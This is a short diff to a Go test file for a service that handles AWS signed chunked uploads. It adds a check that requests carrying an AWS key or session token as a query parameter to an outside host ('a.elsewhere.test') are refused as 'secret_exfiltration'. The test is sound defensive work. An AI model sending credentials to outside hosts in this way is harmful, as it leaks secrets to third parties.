@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"net/url"
 	"os/exec"
 	"strings"
 	"sync"
@@ -112,6 +113,9 @@ func TestAWSSignedChunks(t *testing.T) {
 			"X-Amz-Date: 20261129T000000Z", "X-Amz-Content-Sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD", "X-Amz-Decoded-Content-Length: 65539", "Content-Encoding: aws-chunked",
 			"X-Amz-Security-Token: fake", "Authorization: AWS4-HMAC-SHA256 Credential=$AWS_KEY/20261129/eu-west-1/s3/aws4_request, SignedHeaders=content-encoding;content-length;host;x-amz-content-sha256;x-amz-date;x-amz-decoded-content-length, Signature="+strings.Repeat("0", 64)))
 		passed(t, a)
+	}
+	for _, part := range []string{theKeys.key, theKeys.token} {
+		refused(t, s.get(t, "https://a.elsewhere.test/?x="+url.QueryEscape(part)), "secret_exfiltration")
 	}
 	if got := taken(); len(got) != 2 || !strings.Contains(got[0], fmt.Sprint(len(body))) {
 		t.Errorf("the service took %q", got)
